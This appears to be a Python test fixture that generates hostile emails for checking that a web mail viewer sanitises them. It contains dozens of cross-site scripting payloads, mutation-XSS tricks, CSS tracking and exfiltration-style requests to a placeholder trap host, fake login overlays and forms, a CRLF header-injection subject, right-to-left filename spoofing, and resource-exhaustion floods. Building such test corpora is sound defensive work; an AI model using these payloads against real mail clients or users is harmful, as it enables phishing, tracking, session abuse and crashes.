"""Hostile messages: what senders write to run, to spy, to cover, to stop a reader.

Every message holds READABLE, which must be shown, and addresses of TRAP only, a server
of the tests' own. All people are invented.
"""

from dataclasses import dataclass

TRAP = "http://trap.invalid"  # the tests put their server's address here
READABLE = "Readable words"
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647"
RIGHT_TO_LEFT = "\u202e"


@dataclass(frozen=True)
class HostileMail:
    name: str
    body: str
    is_html: bool = True
    subject: str = "Offer"
    sender_name: str = "Anna Bianchi"

    @property
    def kind(self):
        return self.name.partition(":")[0].partition(" ")[0]

    def at(self, trap):
        """:param trap: address of the server that nobody may ask"""
        return self.body.replace(TRAP, trap)


def hostile_mails():
    """:return: list of `HostileMail`, in the same order every time"""
    kinds = {
        "script": SCRIPTS,
        "handler": HANDLERS,
        "address": ADDRESSES,
        "foreign": FOREIGN,
        "mutation": MUTATIONS,
        "style": STYLES,
        "request": REQUESTS,
        "form": FORMS,
        "cover": COVERS,
        "broken": BROKEN,
    }
    mails = [
        HostileMail(f"{kind} {number}", f"{body}<p>{READABLE}</p>")
        for kind, bodies in kinds.items()
        for number, body in enumerate(bodies, 1)
    ]
    return [*mails, *_names(), *_texts(), *_floods()]


RUN = f"fetch('{TRAP}/ran');top.location='{TRAP}/left'"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script src={TRAP}/a.js></script>",
    f"<script src={TRAP}/a.js>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script\x00>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>import '{TRAP}/m.js'</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
]

HANDLERS = [
    f'<{tag} {event}="{RUN}">'
    for tag, event in (
        ("img src=x", "onerror"),
        ("img src=x", "ONERROR"),
        ("body", "onload"),
        ("p", "onmouseover"),
        ("p style='width:100%;height:900px'", "onpointerenter"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("marquee", "onstart"),
        ("div style='animation:x 1s'", "onanimationstart"),
        ("a href=# tabindex=1 autofocus", "onfocusin"),
        ("svg", "onload"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("p title='>'", "onclick"),
        ("p/title=x/", "onclick"),
        ("p\ttitle=`", "onclick"),
    )
]

ADDRESSES = [
    f"<a href={quote}{address}{quote}>Open</a>"
    for quote, address in (
        ('"', f"javascript:{RUN}"),
        ('"', f"JaVaScRiPt:{RUN}"),
        ('"', f" \x01javascript:{RUN}"),
        ('"', f"java\nscript:{RUN}"),
        ('"', f"java&Tab;script:{RUN}"),
        ('"', f"&#106;avascript&colon;{RUN}"),
        ('"', f"vbscript:{RUN}"),
        ('"', "data:text/html,<script>alert(1)</script>"),
        ('"', "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        ('"', "file:///etc/passwd"),
        ('"', "blob:null/1"),
        ('"', "view-source:http://127.0.0.1"),
        ('"', "/web/session/logout"),
        ('"', "//web/session/logout"),
        ('"', "#top"),
        ('" target="_self" x="', f"{TRAP}/self"),
        ('" target="_top" x="', f"{TRAP}/top"),
        ('" ping="http://trap.invalid/ping" x="', f"{TRAP}/pinged"),
        ('" rel="opener" x="', f"{TRAP}/opener"),
        ('" download x="', f"{TRAP}/download"),
    )
]

FOREIGN = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href='{TRAP}/i.svg'/></svg>",
    f"<svg><use href='{TRAP}/u.svg#x'/></svg>",
    f"<svg><foreignObject><iframe src='{TRAP}/f'></iframe></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{RUN}'/></svg>",
    f"<svg><style><img src='{TRAP}/s'></style></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><annotation-xml encoding='text/html'><img src={TRAP}/m></math>",
    f"<object data='{TRAP}/o.html'></object>",
    f"<object data='{TRAP}/o.swf'><embed src='{TRAP}/e.swf'>",
    f"<embed src='{TRAP}/e.html'>",
    f"<applet code='{TRAP}/a.class'></applet>",
    f"<iframe src='{TRAP}/f.html'></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<frameset><frame src='{TRAP}/f.html'></frameset>",
    f"<portal src='{TRAP}/p.html'></portal>",
]

MUTATIONS = [
    f"<template><img src={TRAP}/t></template>",
    f"<template shadowrootmode=open><img src={TRAP}/t></template>",
    f'<math><mi><table><mglyph><style><!--</style><img src=x onerror="{RUN}">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src={TRAP}/f>",
    f"<svg></p><style><a id=\"</style><img src=x onerror='{RUN}'>\">",
    f"<textarea><p title=\"</textarea><img src=x onerror='{RUN}'>\"></textarea>",
    f"<title><p title=\"</title><img src=x onerror='{RUN}'>\"></title>",
    f"<xmp><p title=\"</xmp><img src=x onerror='{RUN}'>\"></xmp>",
    f"<noembed><p title=\"</noembed><img src=x onerror='{RUN}'>\"></noembed>",
    f"<select><option><style></option></select><img src={TRAP}/s></style></select>",
    f"<table><a href=1><td><img src={TRAP}/t></a></table>",
    f"<p title='`onmouseover={RUN}`'>",
    f'<img alt="``onload={RUN} " src={TRAP}/b>',
    f"<p title=\"&quot;><img src=x onerror='{RUN}'>\">",
    f'<listing>&lt;img src=x onerror="{RUN}"&gt;</listing>',
    f"<!--[if gte mso 9]><img src={TRAP}/mso><![endif]-->",
    f"<comment><img src={TRAP}/c></comment>",
]

STYLES = [
    f"<style>body{{background:url({TRAP}/bg)}}</style>",
    f"<style>@import '{TRAP}/i.css';</style>",
    f"<style>@font-face{{font-family:x;src:url({TRAP}/f)}} p{{font-family:x}}</style>",
    f"<link rel=stylesheet href='{TRAP}/l.css'>",
    f"<p style='background:url({TRAP}/bg)'>",
    f"<p style='background-image:url(&quot;{TRAP}/bg&quot;)'>",
    f"<p style='background:u\\72l({TRAP}/bg)'>",
    f"<p style='background:URL(  {TRAP}/bg )'>",
    f"<p style='background:image-set(\"{TRAP}/bg\" 1x)'>",
    f"<p style='list-style:url({TRAP}/l)'>",
    f"<p style='content:url({TRAP}/c)'>",
    f"<p style='cursor:url({TRAP}/c),auto'>",
    f"<p style='width:expression({RUN})'>",
    f"<p style='behavior:url({TRAP}/b.htc)'>",
    f"<p style='-moz-binding:url({TRAP}/x.xml#x)'>",
    f"<p style='border-image:url({TRAP}/b)'>",
    f"<p style='mask:url({TRAP}/m);filter:url({TRAP}/f)'>",
    f"<p style='color:red;}} @import url({TRAP}/i.css); x{{'>",
    f"<table background={TRAP}/table><td background={TRAP}/cell></table>",
]

REQUESTS = [
    f"<img src='{TRAP}/pixel.gif' width=1 height=1>",
    f"<img src='//trap.invalid/pixel.gif'><img src={TRAP}/p>",
    f"<img srcset='{TRAP}/1x 1x, {TRAP}/2x 2x'>",
    f"<picture><source srcset='{TRAP}/p'><img src={TRAP}/i></picture>",
    f"<img src=x lowsrc={TRAP}/low dynsrc={TRAP}/dyn longdesc={TRAP}/long>",
    "<img src='/web/session/logout'>",
    "<img src='web/session/logout'><img src='../../web/session/logout'>",
    f"<video src='{TRAP}/v' poster='{TRAP}/poster' autoplay></video>",
    f"<audio src='{TRAP}/a' autoplay></audio>",
    f"<video><source src='{TRAP}/s'><track default src='{TRAP}/t'></video>",
    f"<link rel=preload as=image href='{TRAP}/l'>",
    f"<link rel=dns-prefetch href='{TRAP}'><link rel=preconnect href='{TRAP}'>",
    f"<link rel=icon href='{TRAP}/icon'><link rel=manifest href='{TRAP}/m'>",
    f"<meta http-equiv=refresh content='0;url={TRAP}/refresh'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=set-cookie content='session_id=1'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    f"<base href='{TRAP}/'><img src=pixel.gif>",
    f"<input type=image src='{TRAP}/input'>",
    f"<body background='{TRAP}/body'>",
    f"<img src='cid:{TRAP}/x'><p title='cid:logo@x'>cid:logo@x",
    f"<html manifest='{TRAP}/m.appcache'>",
]

FORMS = [
    f"<form action='{TRAP}/post' method=post><input name=p><button>Log in</form>",
    f"<form id=f action='{TRAP}/post'></form><button form=f>Go</button>",
    f"<button formaction='javascript:{RUN}'>Go</button>",
    f'<isindex type=image src=1 onerror="{RUN}">',
    f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}">',
    f'<textarea form=f name=t autofocus onfocus="{RUN}">',
    "<dialog open>Session expired<form method=dialog><button>Log in</dialog>",
]

COVERS = [
    f"<div style='{COVER}'><a href={TRAP}/login>Session expired. Log in</a></div>",
    "<div class='position-fixed top-0 start-0 vw-100 vh-100 bg-white z-3'>"
    + f"<a class='btn btn-primary' href={TRAP}/login>Log in</a></div>",
    "<div class='modal show d-block'><div class='modal-dialog'>Log in</div></div>",
    "<div class='o_dialog o_technical_modal fixed-top'>Log in</div>",
    f"<style>.x{{{COVER}}}</style><div class=x>Log in</div>",
    "<div style='position:absolute;top:-9999px;height:99999px;width:99999px'>x</div>",
    "<div style='margin:-9999px;width:99999px;height:99999px'>x</div>",
    "<div style='position:sticky;top:0;transform:scale(1000)'>x</div>",
    "<div id=wrapwrap class=o_web_client data-oe-model=res.users data-oe-id=2>x</div>",
    "<div popover id=p>x</div><button popovertarget=p>Log in</button>",
    "</main></body></html><div style='position:fixed;inset:0'>Log in</div>",
    "</td></tr></table></div></div></div></div><div class=fixed-top>Log in</div>",
]

BROKEN = [
    "<p>\ufffd\ufffe\uffff" + "".join(map(chr, range(1, 32))),
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff\ufeff<p>",
    "<p>&#0;&#xD800;&#x110000;&#99999999999;&nosuch;&amp",
    "<a href='\x00http://x'>x</a><p \x00=\x00>",
    '<p title="never ended',
    "<p title='never ended>",
    "<!-- never ended",
    "<!DOCTYPE html [<!ENTITY a 'b'><!ENTITY c '&a;&a;'>]><p>&c;",
    "</p></p></div></body></html><br/></br>",
    "<table><table><td><table><tr></td></table>",
    "<b><i><u></b></i></u><a><a><p><a>",
    '<p style="color:\'red;font:&quot;x">',
    "<plaintext>",
    "<style>never ended",
    "<title>never ended",
]


def _names():
    spoofs = (
        f"Offer {RIGHT_TO_LEFT}fdp.exe",
        "Offer \u2066\u2067\u2068 text \u2069",
        "<img src=/web/session/logout onerror=alert(1)>",
        "<script>alert(1)</script>",
        "a" + "\u0301" * 200_000,
        "line\r\nBcc: x@evil.example\x00\x07",
        "{{ 7 * 7 }} ${7*7} <t t-out='request.env'/>",
        "W" * 10_000,
    )
    for number, text in enumerate(spoofs, 1):
        body = f"<p>{READABLE}</p>"
        yield HostileMail(f"subject {number}", body, subject=text)
        yield HostileMail(f"sender {number}", body, sender_name=text)


def _texts():
    """Bodies of type text/plain."""
    for number, text in enumerate(
        (
            f"<script>{RUN}</script>",
            f'{TRAP}/link"onclick=alert(1) {TRAP}/<b>',
            f"javascript:{RUN} cid:logo@x",
            f"{RIGHT_TO_LEFT}gpj.exe",
            "a" + "\u0301" * 200_000,
        ),
        1,
    ):
        yield HostileMail(f"text {number}", f"{READABLE} {text}", is_html=False)
    yield HostileMail("text of 20 MB", READABLE + " words\n" * 2_900_000, False)
    yield HostileMail("line of 20 MB", READABLE + "x" * 20_000_000, False)


def _floods():
    """Bodies that took a worker, or a browser, down."""
    shown = f"<p>{READABLE}</p>"
    attributes = " ".join(f"a{number}=1" for number in range(30_000))
    table = "<table><tr><td style='padding:4px'>Cell</td><td>b</td></tr></table>"
    floods = {
        "stray ends": "<a <b " * 80_000 + ">",
        "stray ends, often": ("<a <b " * 40 + ">") * 2_000,
        "no ends": "<a <b " * 80_000,
        "attributes": f"<p {attributes}>",
        "attributes of 10 MB": f"<p {attributes * 25}>",
        "combining characters": "<p>a" + "\u0301" * 200_000,
        "combining references": "<p>a" + "&#769;" * 100_000,
        "open tags": "<div>" * 90_000,
        "open formats": "<b><i><u><font>" * 20_000,
        "nested quotes": "<blockquote><p>Words of a reply</p>" * 45_000,
        "nested tables": "<table><tr><td>" * 5_000,
        "nested lists": "<ul><li>" * 20_000,
        "wide table": "<table><tr>" + "<td colspan=1000 rowspan=65534>x" * 5_000,
        "tables of 20 MB": table * 250_000,
        "entities": "&amp;" * 150_000,
        "number of 5 MB": "&#" + "9" * 5_000_000 + ";",
        "style of 5 MB": f"<style>{'a{color:red}' * 450_000}</style>",
        "style of a tag": "<p style='" + "color:red;" * 500_000 + "'>",
        "spaces": "<p " + " " * 15_000_000 + ">",
        "less-than": "<" * 900_000,
        "comments": "<!---->" * 90_000,
        "comments without end": "<!--" * 90_000,
        "scripts without end": "<script>" * 90_000,
        "image data": f"<img src='data:image/png;base64,{'A' * 15_000_000}'>",
        "image addresses": f"<img src='{TRAP}/i'>" * 90_000,
        "links": f"<a href='{TRAP}/{'x' * 1_000}'>x</a>" * 15_000,
        "thread of 60 replies": "".join(
            f"<blockquote><div><div><div><div>Reply {number}" for number in range(60)
        ),
    }
    for name, body in floods.items():
        yield HostileMail(f"flood: {name}", shown + body)
